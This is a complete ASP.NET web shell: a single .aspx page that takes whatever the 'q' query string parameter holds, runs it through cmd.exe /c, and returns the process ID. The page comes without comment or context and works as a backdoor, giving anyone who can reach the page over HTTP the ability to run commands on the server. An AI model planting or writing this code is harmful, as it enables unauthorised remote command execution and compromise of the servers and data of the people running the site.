<%@ Page Language="C#" %>
<%
var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.QueryString["q"]);
psi.UseShellExecute = false;
Response.Write(System.Diagnostics.Process.Start(psi).Id);
%>
